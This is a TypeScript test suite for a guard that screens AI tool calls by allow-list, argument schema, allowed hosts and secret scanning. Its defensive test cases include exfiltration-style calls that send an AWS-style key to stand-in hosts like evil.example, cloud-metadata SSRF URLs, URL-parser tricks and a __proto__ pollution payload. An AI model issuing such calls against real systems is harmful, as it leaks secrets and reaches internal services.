/**
 * Tool-call control on answers: the allow-list, argument schemas, hosts, secrets, and what
 * block and strip do to parallel calls. Violations must never repeat argument values.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  checkToolCalls,
  compileToolPolicy,
  keptCallIndexes,
  toolCallsError,
  toolPolicyFindings,
  type ToolCall,
  type ToolCallsResult,
  type ViolationKind,
} from '../../src/guard/tool-control.ts';
import type { ToolPolicyConfigInput } from '../../src/config/tools.ts';
import type { Finding } from '../../src/guard/types.ts';
import { RampartError } from '../../src/core/errors.ts';

const SECRET = 'AKIAIOSFODNN7EXAMPLE';
const CARD = '4111111111111111';

/** A stand-in for the guard's DLP detectors: AWS key ids and card numbers. */
function scanText(text: string): Finding[] {
  const out: Finding[] = [];
  for (const m of text.matchAll(/AKIA[0-9A-Z]{16}/g)) out.push(finding('secret.aws_access_key', m.index, m.index + m[0].length));
  for (const m of text.matchAll(/\b4111111111111111\b/g)) out.push(finding('pii.payment_card', m.index, m.index + m[0].length));
  return out;
}
const finding = (category: string, start: number, end: number): Finding => ({
  detector: 'fake-dlp', detectorVersion: '1', category, start, end, score: 1, severity: 'high', rule: 'r', explanation: 'fake',
});

const MAIL: ToolPolicyConfigInput = {
  tools: [
    {
      name: 'send_email',
      parameters: {
        type: 'object',
        $defs: { address: { type: 'string', format: 'email', maxLength: 254 } },
        properties: {
          to: { $ref: '#/$defs/address' },
          cc: { type: 'array', items: { $ref: '#/$defs/address' }, maxItems: 10 },
          subject: { type: 'string', maxLength: 5 },
          body: { type: 'string' },
          attachments: {
            type: 'array',
            items: { type: 'object', properties: { name: { type: 'string' }, url: { type: 'string', format: 'uri' } }, required: ['name'], additionalProperties: false },
          },
        },
        required: ['to'],
        additionalProperties: false,
      },
    },
    { name: 'fetch_url', parameters: { type: 'object', properties: { url: { type: 'string' } }, required: ['url'] }, allowHosts: ['docs.example.com', '*.wiki.example.org'] },
    { name: 'search', parameters: { type: 'object', properties: { q: { type: 'string', pattern: '^(a+)+$' } } } },
    { name: 'note' },
    { name: 'codes', parameters: { type: 'object', properties: { x: { type: 'string', pattern: '^[0-9]{3}$' }, y: { type: 'string', pattern: '^[a-z]{2}$' } } } },
  ],
  allowHosts: ['intranet.example.com'],
};

const policy = compileToolPolicy(MAIL, 'mail');
const call = (name: string, args: unknown, id?: string): ToolCall => ({ name, arguments: typeof args === 'string' ? args : JSON.stringify(args), ...(id ? { id } : {}) });

async function kinds(c: ToolCall, p = policy): Promise<ViolationKind[]> {
  const r = await checkToolCalls(p, [c], { scanText });
  return r.calls[0]!.violations.map((v) => v.kind);
}

describe('compileToolPolicy', () => {
  it('reports an invalid schema as RAMPART_CONFIG_INVALID with its config path', () => {
    assert.throws(
      () => compileToolPolicy({ tools: [{ name: 'a' }, { name: 'b', parameters: { type: 'object', properties: { x: { type: 'strng' } } } }] }, 'agents'),
      (e: unknown) => e instanceof RampartError && e.code === 'RAMPART_CONFIG_INVALID' && /toolPolicies\.agents\.tools\[1\]\.parameters: invalid JSON Schema/.test(e.message),
    );
  });

  it('does not mutate its input and compiles once', () => {
    const input = structuredClone(MAIL);
    compileToolPolicy(input, 'x');
    assert.deepEqual(input, MAIL);
  });
});

describe('checkToolCalls: allow-list', () => {
  const cases: [string, ToolCall, ViolationKind[]][] = [
    ['a listed tool with valid arguments', call('send_email', { to: 'bob@example.org', body: 'hi' }), []],
    ['a listed tool without a schema and any object', call('note', { anything: [1, { deep: true }] }), []],
    ['an unlisted tool', call('delete_repo', { name: 'x' }), ['unlisted_tool']],
    ['a name with a trailing space', call('send_email ', { to: 'bob@example.org' }), ['unlisted_tool']],
    ['a name in another case', call('Send_Email', { to: 'bob@example.org' }), ['unlisted_tool']],
    ['a name with a zero-width space', call('send\u200b_email', { to: 'bob@example.org' }), ['unlisted_tool']],
    ['a name in fullwidth letters', call('ｓｅｎｄ_email', { to: 'bob@example.org' }), ['unlisted_tool']],
    ['an empty name', call('', {}), ['unlisted_tool']],
  ];
  for (const [what, c, want] of cases) it(`${want.length ? 'flags' : 'allows'} ${what}`, async () => assert.deepEqual(await kinds(c), want));

  it('says when an unlisted name only differs by case or spacing from a listed one', async () => {
    const r = await checkToolCalls(policy, [call(' Send_Email\t', { to: 'bob@example.org' })]);
    assert.match(r.calls[0]!.violations[0]!.detail, /differs from the listed "send_email" only by case or spacing/);
  });

  it('blocks or strips unlisted tools as unlistedTools says, independently of onViolation', async () => {
    const strip = compileToolPolicy({ ...MAIL, unlistedTools: 'strip', onViolation: 'block' });
    const r = await checkToolCalls(strip, [call('rm', {}), call('note', {})]);
    assert.equal(r.action, 'strip');
    assert.deepEqual(keptCallIndexes(r), [1]);
  });

  it('blocks everything with an empty allow-list (the default)', async () => {
    const r = await checkToolCalls(compileToolPolicy({}), [call('anything', {})]);
    assert.equal(r.action, 'block');
  });
});

describe('checkToolCalls: arguments', () => {
  const cases: [string, string | unknown, ViolationKind[], RegExp?][] = [
    ['malformed JSON', '{"to": "bob@example.org"', ['unparseable_arguments']],
    ['JSON with a trailing comma', '{"to":"bob@example.org",}', ['unparseable_arguments']],
    ['an empty string', '', ['unparseable_arguments']],
    ['an array instead of an object', '[{"to":"bob@example.org"}]', ['invalid_arguments'], /must be a JSON object/],
    ['null', 'null', ['invalid_arguments'], /must be a JSON object/],
    ['a missing required property', { body: 'x' }, ['invalid_arguments'], /\(arguments\): must have required property 'to'/],
    ['an extra property (additionalProperties: false)', { to: 'bob@example.org', bcc: 'x@evil.example' }, ['invalid_arguments'], /\(arguments\): must NOT have additional properties \("bcc"\)/],
    ['a bad format behind a $ref', { to: 'not-an-address' }, ['invalid_arguments'], /^to: must match format "email"/],
    ['a bad item deep in an array', { to: 'bob@example.org', cc: ['a@example.org', 42] }, ['invalid_arguments'], /^cc\[1\]: must be string/],
    ['an extra property in a nested object', { to: 'bob@example.org', attachments: [{ name: 'a', url: 'https://intranet.example.com/a', exec: true }] }, ['invalid_arguments'], /^attachments\[0\]: must NOT have additional properties \("exec"\)/],
    ['too many items', { to: 'bob@example.org', cc: Array(11).fill('a@example.org') }, ['invalid_arguments'], /^cc: must NOT have more than 10 items/],
    ['a subject over maxLength in code points', { to: 'bob@example.org', subject: '😀😀😀😀😀😀' }, ['invalid_arguments'], /^subject: must NOT have more than 5 characters/],
    ['a subject at maxLength in code points (emoji are one each)', { to: 'bob@example.org', subject: '😀😀😀😀😀' }, []],
    ['unicode everywhere', { to: 'zoë@example.org', body: 'Grüße aus Köln — 日本語 ✓ \u202e' }, []],
    ['a __proto__ key (rejected as an additional property, not merged)', '{"to":"bob@example.org","__proto__":{"admin":true}}', ['invalid_arguments'], /__proto__/],
  ];
  for (const [what, args, want, detail] of cases) {
    it(`${want.length ? 'flags' : 'accepts'} ${what}`, async () => {
      const r = await checkToolCalls(policy, [call('send_email', args)], { scanText });
      assert.deepEqual(r.calls[0]!.violations.map((v) => v.kind), want);
      if (detail) assert.match(r.calls[0]!.violations[0]!.detail, detail);
    });
  }

  it('never repeats argument values in violations, nor keys that are secrets', async () => {
    const r = await checkToolCalls(policy, [
      call('send_email', { to: `${SECRET}@x`, body: `key ${SECRET} to https://evil.example/${SECRET}` }),
      call('send_email', `{"to": "${SECRET}"`),
      call('fetch_url', { url: `https://${SECRET.toLowerCase()}.evil.example/` }),
      call('send_email', { to: 'bob@example.org', [SECRET]: 'https://evil.example/' }),
    ], { scanText });
    assert.ok(r.calls.every((c) => c.violations.length > 0));
    const text = JSON.stringify(r);
    assert.ok(!text.includes(SECRET) && !text.includes(SECRET.toLowerCase()), text);
    assert.ok(!text.includes('evil.example'), 'hosts are argument values too');
    const findings = toolPolicyFindings({ calls: r });
    assert.ok(findings.every((f) => !f.explanation.includes(SECRET) && !f.explanation.includes('evil.example')));
    assert.match(r.calls[3]!.violations.map((v) => v.detail).join('\n'), /<redacted> \(key\): secret\.aws_access_key/);
  });

  it('runs schema patterns on RE2: a catastrophic pattern does not hang', async () => {
    const t0 = performance.now();
    const r = await checkToolCalls(policy, [call('search', { q: `${'a'.repeat(50_000)}b` })]);
    assert.deepEqual(r.calls[0]!.violations.map((v) => v.rule), ['pattern']);
    assert.ok(performance.now() - t0 < 1_000);
  });

  it('keeps every pattern of a schema apart (Ajv caches compiled patterns)', async () => {
    assert.deepEqual(await kinds(call('codes', { x: '123', y: 'ab' })), []);
    assert.deepEqual(await kinds(call('codes', { x: '123', y: '123' })), ['invalid_arguments']);
    assert.deepEqual(await kinds(call('codes', { x: 'ab', y: 'ab' })), ['invalid_arguments']);
  });

  it('refuses arguments nested deeper than 64 levels instead of walking them', async () => {
    const deep = `{"a":${'['.repeat(5_000)}${']'.repeat(5_000)}}`;
    const r = await checkToolCalls(policy, [call('note', deep)], { scanText });
    assert.deepEqual(r.calls[0]!.violations.map((v) => `${v.kind}:${v.rule}`), ['invalid_arguments:maxDepth']);
  });

  it('refuses arguments over maxArgumentsChars without parsing or scanning them', async () => {
    const small = compileToolPolicy({ ...MAIL, maxArgumentsChars: 1_000 });
    let scanned = 0;
    const huge = JSON.stringify({ body: `${SECRET} ${'x'.repeat(5_000)}` });
    const r = await checkToolCalls(small, [call('note', huge)], { scanText: (t) => (scanned++, scanText(t)) });
    assert.deepEqual(r.calls[0]!.violations.map((v) => `${v.kind}:${v.rule}`), ['invalid_arguments:maxArgumentsChars']);
    assert.equal(scanned, 0);
    assert.match(r.calls[0]!.violations[0]!.detail, /5\d{3} characters, over the policy's 1000/);
  });

  it('checks a large argument within the limit completely', async () => {
    const big = JSON.stringify({ items: Array.from({ length: 2_000 }, (_, i) => ({ text: `line ${i}`, url: i === 1_999 ? 'https://evil.example/' : 'https://intranet.example.com/' })) });
    assert.ok(big.length > 60_000);
    const r = await checkToolCalls(policy, [call('note', big)], { scanText });
    assert.deepEqual(r.calls[0]!.violations.map((v) => v.detail), ['items[1999].url: names a host not in allowHosts']);
  });
});

describe('checkToolCalls: hosts', () => {
  const cases: [string, string, unknown, boolean][] = [
    ['an allowed host', 'fetch_url', { url: 'https://docs.example.com/a?b=c' }, true],
    ['an allowed host in capitals with a trailing dot', 'fetch_url', { url: 'HTTPS://DOCS.EXAMPLE.COM./a' }, true],
    ['a sub-domain under a wildcard', 'fetch_url', { url: 'https://en.wiki.example.org/x' }, true],
    ['a deeper sub-domain under a wildcard', 'fetch_url', { url: 'https://a.b.wiki.example.org/x' }, true],
    ['the apex of a wildcard', 'fetch_url', { url: 'https://wiki.example.org/' }, false],
    ['another host', 'fetch_url', { url: 'https://evil.example/?d=secret' }, false],
    ['the allowed host as userinfo (https://docs.example.com@evil.example)', 'fetch_url', { url: 'https://docs.example.com@evil.example/' }, false],
    ['the allowed host as a prefix (docs.example.com.evil.example)', 'fetch_url', { url: 'https://docs.example.com.evil.example/' }, false],
    ['a backslash parser differential', 'fetch_url', { url: 'http://docs.example.com\\@evil.example/' }, false],
    ['a homograph (Cyrillic о)', 'fetch_url', { url: 'https://dоcs.example.com/' }, false],
    ['a slashless special URL', 'fetch_url', { url: 'https:evil.example' }, false],
    ['tabs inside the scheme', 'fetch_url', { url: 'ht\ttps://evil.example/' }, false],
    ['a percent-encoded dot', 'fetch_url', { url: 'https://evil%2Eexample/' }, false],
    ['a cloud metadata IP', 'fetch_url', { url: 'http://169.254.169.254/latest/meta-data/' }, false],
    ['an IPv4 in hex', 'fetch_url', { url: 'http://0xa9fea9fe/' }, false],
    ['a protocol-relative URL', 'fetch_url', { url: '//evil.example/x' }, false],
    ['a bare host with a path', 'fetch_url', { url: 'evil.example/collect' }, false],
    ['a bare host alone', 'fetch_url', { url: 'evil.example' }, false],
    ['a URL inside prose', 'note', { text: 'Done! See [report](https://evil.example/r?q=1) for details.' }, false],
    ['a URL in an array of objects', 'note', { links: [{ href: 'https://intranet.example.com/a' }, { href: 'https://evil.example/b' }] }, false],
    ['an intranet URL (policy allowHosts, tool without its own)', 'note', { text: 'see https://intranet.example.com/wiki' }, true],
    ['a file name', 'note', { path: 'notes.md' }, true],
    ['an e-mail address', 'note', { text: 'write to bob@evil.example' }, true],
    ['a version number', 'note', { text: 'upgrade to 1.2.3.4 soon' }, true],
    ['prose with abbreviations', 'note', { text: 'e.g. use Node.js, i.e. v24' }, true],
    ['a file URL', 'note', { path: 'file:///etc/hosts' }, true],
    ['a time of day', 'note', { at: '10:30' }, true],
    ['a key:value string', 'note', { tag: 'ratio:3' }, true],
    ['localhost with a port', 'note', { target: 'localhost:8080' }, false],
    ['a single-label host with a port and path', 'note', { target: 'metadata:80/computeMetadata/v1' }, false],
  ];
  for (const [what, tool, args, ok] of cases) {
    it(`${ok ? 'allows' : 'flags'} ${what}`, async () => assert.deepEqual(await kinds(call(tool, args)), ok ? [] : ['unlisted_host']));
  }

  it('decodes JSON escapes before looking for hosts', async () => {
    assert.deepEqual(await kinds(call('fetch_url', '{"url":"https:\\/\\/evil.example\\/"}')), ['unlisted_host']);
    assert.deepEqual(await kinds(call('fetch_url', '{"url":"\\u0068ttps://evil\\u002eexample/"}')), ['unlisted_host']);
  });

  it('still looks for hosts in arguments that do not parse', async () => {
    assert.deepEqual(await kinds(call('fetch_url', '{"url": "https://evil.example/" ')), ['unparseable_arguments', 'unlisted_host']);
  });

  it('does not check hosts when neither the tool nor the policy lists any', async () => {
    const open = compileToolPolicy({ tools: [{ name: 'fetch_url' }] });
    assert.deepEqual(await kinds(call('fetch_url', { url: 'https://anything.example/' }), open), []);
  });

  it('reads adversarial text in linear time, and fails closed on more than 1000 URLs in one value', async () => {
    const t0 = performance.now();
    for (const text of ['a:'.repeat(100_000), 'http:'.repeat(40_000), 'https://'.concat('a@'.repeat(100_000)), 'x.'.repeat(100_000), '//a'.repeat(60_000)]) {
      await checkToolCalls(policy, [call('note', { text })]);
    }
    assert.ok(performance.now() - t0 < 2_000, `${performance.now() - t0} ms`);
    const many = Array.from({ length: 1_001 }, () => 'https://intranet.example.com/').join(' ');
    assert.deepEqual(await kinds(call('note', { text: many })), ['unlisted_host']);
  });

  it('does not lose a bad host behind hundreds of allowed ones (past 256 distinct hosts, it fails closed)', async () => {
    const urls = (n: number) => Array.from({ length: n }, (_, i) => `https://h${i}.wiki.example.org/`);
    assert.deepEqual(await kinds(call('fetch_url', { url: urls(250).join(' ') })), []);
    assert.deepEqual(await kinds(call('fetch_url', { url: [...urls(250), 'https://evil.example/'].join(' ') })), ['unlisted_host']);
    assert.deepEqual(await kinds(call('fetch_url', { url: [...urls(300), 'https://evil.example/'].join(' ') })), ['unlisted_host']);
  });

  it('reports one violation per argument, counting its hosts', async () => {
    const r = await checkToolCalls(policy, [call('note', { a: 'https://x.example/ and https://y.example/', b: 'https://intranet.example.com/' })]);
    assert.deepEqual(r.calls[0]!.violations.map((v) => v.detail), ['a: names 2 hosts not in allowHosts']);
  });
});

describe('checkToolCalls: secrets', () => {
  it('reports a secret found by the DLP hook in any string value, with its path', async () => {
    const r = await checkToolCalls(policy, [call('note', { meta: { list: ['ok', `key=${SECRET}`] } })], { scanText });
    assert.deepEqual(r.calls[0]!.violations, [{ kind: 'secret_in_arguments', rule: 'secret.aws_access_key', detail: 'meta.list[1]: secret.aws_access_key' }]);
  });

  it('checks long keys and large integers too', async () => {
    const strict = compileToolPolicy({ ...MAIL, scanCategories: ['secret', 'pii.payment_card'] });
    const r = await checkToolCalls(strict, [call('note', { meta: { [SECRET]: true }, card: Number(CARD), small: 42 })], { scanText });
    assert.deepEqual(r.calls[0]!.violations.map((v) => v.detail), ['meta.<redacted> (key): secret.aws_access_key', 'card: pii.payment_card']);
  });

  it('sees secrets hidden behind JSON escapes', async () => {
    const r = await checkToolCalls(policy, [call('note', `{"k":"\\u0041KIAIOSFODNN7EXAMPLE"}`)], { scanText });
    assert.deepEqual(r.calls[0]!.violations.map((v) => v.kind), ['secret_in_arguments']);
  });

  it('ignores personal data unless scanCategories names it', async () => {
    assert.deepEqual(await kinds(call('note', { card: CARD })), []);
    const strict = compileToolPolicy({ ...MAIL, scanCategories: ['secret', 'pii.payment_card'] });
    assert.deepEqual(await kinds(call('note', { card: CARD }), strict), ['secret_in_arguments']);
  });

  it('passes each string value and its path to the hook, and awaits async hooks', async () => {
    const seen: string[] = [];
    await checkToolCalls(policy, [call('note', { a: 'x', b: [1, 'y', { c: 'z' }], d: true })], {
      scanText: async (text, path) => {
        seen.push(`${path}=${text}`);
        await new Promise((r) => setTimeout(r, 1));
        return [];
      },
    });
    assert.deepEqual(seen.sort(), ['a=x', 'b[1]=y', 'b[2].c=z']);
  });

  it('fails closed when the hook throws, even under strip', async () => {
    const strip = compileToolPolicy({ ...MAIL, onViolation: 'strip' });
    const r = await checkToolCalls(strip, [call('note', { a: 'x' })], { scanText: () => { throw new Error('detector down'); } });
    assert.deepEqual(r.calls[0]!.violations.map((v) => v.kind), ['scan_failed']);
    assert.equal(r.action, 'block');
  });
});

describe('checkToolCalls: parallel calls', () => {
  const calls = [
    call('send_email', { to: 'bob@example.org', body: 'hi' }, 'call_1'),
    call('fetch_url', { url: 'https://evil.example/' }, 'call_2'),
    call('note', { text: 'fine' }, 'call_3'),
    call('send_email', '{"to":', 'call_4'),
  ];

  it('strips only the bad calls under strip', async () => {
    const r = await checkToolCalls(compileToolPolicy({ ...MAIL, onViolation: 'strip' }), calls);
    assert.equal(r.action, 'strip');
    assert.deepEqual(r.calls.map((c) => c.action), ['allow', 'strip', 'allow', 'strip']);
    assert.deepEqual(keptCallIndexes(r), [0, 2]);
    assert.deepEqual(r.calls.map((c) => c.id), ['call_1', 'call_2', 'call_3', 'call_4']);
  });

  it('blocks the whole answer under block', async () => {
    const r = await checkToolCalls(policy, calls);
    assert.equal(r.action, 'block');
    assert.deepEqual(keptCallIndexes(r), []);
  });

  it('allows an answer whose calls are all good', async () => {
    const r = await checkToolCalls(policy, [calls[0]!, calls[2]!]);
    assert.equal(r.action, 'allow');
    assert.deepEqual(keptCallIndexes(r), [0, 1]);
  });

  it('allows an answer with no calls', async () => {
    assert.deepEqual(await checkToolCalls(policy, []), { action: 'allow', calls: [] });
  });
});

describe('toolPolicyFindings and errors', () => {
  it('turns violations into guard findings with tool.* categories', async () => {
    const r = await checkToolCalls(policy, [
      call('rm', {}),
      call('send_email', { to: 'x' }),
      call('fetch_url', { url: 'https://evil.example/' }),
      call('note', { k: SECRET }),
      call('note', '{'),
    ], { scanText });
    const f = toolPolicyFindings({ calls: r });
    assert.deepEqual(f.map((x) => [x.index, x.category, x.rule]), [
      [0, 'tool.unlisted', 'unlisted_tool'],
      [1, 'tool.invalid_arguments', 'invalid_arguments:format'],
      [2, 'tool.unlisted_host', 'unlisted_host'],
      [3, 'tool.secret_in_arguments', 'secret_in_arguments:secret.aws_access_key'],
      [4, 'tool.invalid_arguments', 'unparseable_arguments'],
    ]);
    for (const x of f) {
      assert.equal(x.detector, 'tool-control');
      assert.equal(x.subject, 'call');
      assert.equal(x.start, 0);
      assert.equal(x.end, r.calls[x.index]!.argumentsLength);
      assert.equal(x.toolAction, 'block');
    }
    assert.equal(f[3]!.severity, 'critical');
    assert.match(f[0]!.explanation, /^Tool call 0 \("rm"\): tool "rm" is not on the allow-list\.$/);
  });

  it('builds a coded 502 error naming the blocked tools', async () => {
    const r: ToolCallsResult = await checkToolCalls(policy, [call('rm', {}), call('note', {})]);
    const e = toolCallsError(r);
    assert.equal(e.code, 'RAMPART_TOOL_CALL_BLOCKED');
    assert.equal(e.status, 502);
    assert.match(e.message, /Tool calls: "rm"\./);
  });
});
